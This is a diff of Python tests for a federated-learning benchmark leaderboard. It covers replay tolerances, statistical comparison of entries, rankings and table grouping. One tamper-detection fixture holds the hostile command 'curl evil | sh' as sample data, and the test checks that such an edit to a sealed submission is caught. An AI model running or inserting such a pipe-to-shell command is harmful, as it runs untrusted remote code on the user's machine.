@@ -69,6 +69,7 @@ from fedbench.leaderboard.entry_rules import (
 from fedbench.leaderboard.held_out import HeldOutResult
 from fedbench.leaderboard.rank import (
     comparable_groups,
+    differences,
     ranking,
     resolution,
     surely_better,
@@ -78,12 +79,21 @@ from fedbench.leaderboard.replays import (
     ClaimedEntry,
     ReplayedCell,
     StagedCell,
+    differing_cells,
     disagreements,
     has_read,
     status,
 )
 from fedbench.leaderboard.resampling import detectable, surest
-from fedbench.leaderboard.rules import PUBLISHED, Limits, Rules, losses, numbered, versions
+from fedbench.leaderboard.rules import (
+    PUBLISHED,
+    Limits,
+    Rules,
+    Tolerance,
+    losses,
+    numbered,
+    versions,
+)
 from fedbench.leaderboard.submission import Submission, infer, plan, submit
 from fedbench.payload import Payload
 from fedbench.sweeps.plan import Plan
@@ -860,6 +870,10 @@ TAMPERED: dict[str, tuple[set[str], Callable[[Path], Any]]] = {
         {"numbers"},
         saying(True, cells__1__curve__0__accuracy__mean=0.3 + 1e-12),
     ),
+    "a point of a curve that was left out, sealed again": (
+        {"numbers"},
+        lambda p: edit(p, lambda c: c["cells"][1]["curve"].pop(0) and None, True),
+    ),
     "an edited command, sealed again": ({"numbers"}, saying(True, command="curl evil | sh")),
     "a smaller alphabet, sealed again": ({"numbers"}, saying(True, alphabet="FloatVectors")),
     "a record that was cut off": ({"records"}, lambda p: repack(p, lambda t: [*t[:5], t[5][:90]])),
@@ -1094,7 +1108,9 @@ def test_every_version_of_the_rules_has_its_digest_in_the_code() -> None:
         ([{}] * 5, [{"accuracy": 0.821}] * 5, ["accuracy"]),
         ([{}] * 5, [{"accuracy": 0.6}, {}, {}, {}, {}], []),  # one seed proves nothing
         ([{}] * 5, [{"up": 2}] * 5, ["uplink_bits_per_parameter"]),
+        ([{"up": 2}] * 5, [{}] * 5, ["uplink_bits_per_parameter"]),  # fewer are as far
         ([{}] * 2, [{"epsilon": 1.0}] * 2, ["epsilon"]),
+        ([{"epsilon": 1.0}, {"epsilon": None}], [{"epsilon": 1.0}] * 2, ["epsilon"]),  # not finite
         # epsilon is compared relative and by its largest
         ([{"epsilon": 1000.0}, {"epsilon": 10.0}], [{"epsilon": 1000.0009}, {"epsilon": 20.0}], []),
         ([{"epsilon": 1000.0}] * 2, [{"epsilon": 1000.002}, {"epsilon": 20.0}], ["epsilon"]),
@@ -1147,6 +1163,27 @@ def test_a_replay_of_more_cells_must_differ_more_surely() -> None:
     differing = disagreements([noisy, even, far, *others], RULES_OF)
     assert differing.pop(far.part) == ["accuracy"]
     assert set(map(tuple, differing.values())) == {()}
+
+
+def test_a_difference_as_large_as_is_allowed_is_allowed_however_sure_it_is() -> None:
+    allowed = Tolerance(accuracy=0.25, bits=0, epsilon=0)
+    lost = {
+        "as far": [0.25] * 5,
+        "as far up": [-0.25] * 5,
+        "further": [0.25] * 4 + [0.5],
+    }
+    assert differing_cells(lost, allowed) == {"further"}
+
+
+@pytest.mark.parametrize(
+    ("down", "far"), [(32.3, False), (31.7, False), (32.4, True), (31.6, True)]
+)
+def test_bits_down_are_compared_too_within_a_hundredth(down: float, far: bool) -> None:
+    claimed = [played(seed=seed) for seed in range(2)]
+    again = [changed(run, result__downlink_bits_per_parameter=down) for run in claimed]
+    part = StagedCell("development", "none")
+    expected = ["downlink_bits_per_parameter"] if far else []
+    assert disagreements([ReplayedCell(part, claimed, again)], RULES_OF) == {part: expected}
 
 
 INTEL, AMD = "x86_64 Intel Xeon", "x86_64 AMD EPYC"
@@ -1264,12 +1301,33 @@ def test_three_differences_are_tested_more_strictly_than_one() -> None:
     assert surely_better({0: values, 1: low, 2: {s: -x for s, x in values.items()}}, 0.05) == set()
 
 
+def test_a_pair_is_sure_below_the_level_and_its_first_is_the_one_with_the_higher_mean() -> None:
+    low = dict.fromkeys(range(12), 0.0)
+    high = dict.fromkeys(range(12), 0.02)  # all of one sign: p is 2 / 2**12
+    assert surely_better({0: low, 1: high}, 2**-10) == {(1, 0)}
+    assert surely_better({0: low, 1: high}, 2**-11) == set(), "p is the level, and not below it"
+    assert detectable(0.1, 12, 2**-11) == math.inf
+    # Six of 14 seeds are far above, eight a little below: p is that of six equal signs, 2 / 2**6.
+    few = dict(enumerate([1.0] * 6 + [-0.01] * 8))
+    assert surely_better({0: few, 1: dict.fromkeys(range(14), 0.0)}, 0.05) == {(0, 1)}
+
+
 def test_a_ranking_says_which_differences_its_seeds_can_tell() -> None:
     assert ranking([ranked(0.8)]).least_difference is None
     # differences of 0.1 up and down have a deviation of 0.1 sqrt(12 / 11) = 0.1044
     least = ranking([ranked(0.8), ranked(0.7, noise=0.1)]).least_difference
     assert least == pytest.approx(detectable(0.104447, 12, 0.05), abs=1e-5)
     assert ranking([ranked(0.8), ranked(0.7)]).least_difference == pytest.approx(0.0, abs=1e-9)
+
+
+def test_what_seeds_can_tell_is_of_a_pair_of_middle_spread_with_the_fewest_seeds() -> None:
+    # Up and down by 0.1, and by 0.3 the other way round: differences of 0.1, 0.3 and 0.4.
+    noises = (0.0, 0.1, -0.3)
+    systems = {i: {s: x * (-1) ** s for s in range(12)} for i, x in enumerate(noises)}
+    spread = 0.3 * math.sqrt(12 / 11)
+    assert resolution(systems, 0.05) == pytest.approx(detectable(spread, 12, 0.05 / 3))
+    systems[1] = {seed: systems[1][seed] for seed in range(10)}
+    assert resolution(systems, 0.05) == pytest.approx(detectable(spread, 10, 0.05 / 3))
 
 
 def test_none_has_a_rank_where_the_seeds_are_too_few_to_tell_any_two_apart() -> None:
@@ -1287,6 +1345,12 @@ def test_none_has_a_rank_where_the_seeds_are_too_few_to_tell_any_two_apart() -> 
     assert found.least_difference == math.inf
     assert [(s.rank, s.best) for s in found.standings] == [(None, None)] * 2
     assert [s.pareto for s in found.standings] == [True, False]  # which is no claim about seeds
+
+
+def test_entries_that_are_equally_good_stand_in_the_order_of_their_ids() -> None:
+    alike = sorted((ranked(0.8, note=note) for note in "abc"), key=lambda one: one.id)
+    for entries in (alike, alike[::-1]):
+        assert [s.entry for s in ranking(entries).standings] == alike
 
 
 def test_an_entry_without_a_rival_has_no_rank() -> None:
@@ -1328,9 +1392,17 @@ def test_an_entry_that_nobody_has_played_again_has_no_rank_nor_has_one_of_a_trac
 def test_what_shares_no_seeds_is_not_compared() -> None:
     here, far = ranked(0.9), ranked(0.5, seeds=list(range(100, 112)))
     found = ranking([here, far]).standings
-    assert [(s.rank, s.best) for s in found] == [(None, None), (None, None)]
+    assert [(s.rank, s.best, s.pareto) for s in found] == [(None, None, False)] * 2
     also_far = ranked(0.4, seeds=list(range(100, 112)))
     assert [s.rank for s in ranking([here, far, also_far]).standings] == [1, 2, None]
+
+
+def test_three_seeds_in_common_make_a_pair_and_two_do_not() -> None:
+    here = {0: 0.9, 1: 0.8, 2: 0.6, 3: 0.1}
+    for shared, there in ((3, {2: 0.1, 1: 0.5, 0: 0.4, 9: 1.0}), (2, {0: 0.4, 1: 0.5, 9: 1.0})):
+        pairs = differences({4: here, 7: there})
+        assert list(pairs) == ([(4, 7)] if shared == 3 else [])
+        assert pairs.get((4, 7), [0.5, 0.3, 0.5]) == pytest.approx([0.5, 0.3, 0.5])
 
 
 def test_so_many_systems_that_nothing_is_sure_are_said_to_be() -> None:
@@ -1380,6 +1452,15 @@ def test_numbers_in_the_names_of_seasons_are_compared_as_numbers() -> None:
     groups = comparable_groups([ranked(0.8), *(in_season(name, 0.5) for name in names)])
     latest_first = ["pilot-10", "pilot-2", "2026-11-b", "2026-11", "2026-9", "2026", ""]
     assert [ranking(group).season for group in groups] == latest_first
+
+
+def test_the_order_of_tables_is_not_that_of_files() -> None:
+    priceless = promising(None, 0.6)  # no finite epsilon: it stands with those without a mechanism
+    both = [promising(2.0, 0.7, delta=delta) for delta in (1e-6, 1e-5)]
+    expected = [{priceless.id, ranked(0.8).id}, {both[1].id}, {both[0].id}]
+    every = [*both, priceless, ranked(0.8)]
+    for entries in (every, every[::-1]):
+        assert [{e.id for e in group} for group in comparable_groups(entries)] == expected
 
 
 def test_the_front_is_of_accuracy_and_bits_and_of_epsilon_among_private_systems() -> None:
@@ -1451,6 +1532,7 @@ def test_within_a_budget_an_entry_is_read_at_its_last_look() -> None:
     trusted = {"status": "replayed", "division": "open"}
     cheap, costly = (build(case(runs(up=up)), SAID).model_copy(update=trusted) for up in (1, 68))
     assert [total_bits(cheap), total_bits(costly)] == [66.0, 200.0]
+    assert total_bits(entry(rounds=3)) == 99.0
     found = ranking([costly, cheap], "equal-bits")
     assert found.bits == 66.0
     first, last = found.standings
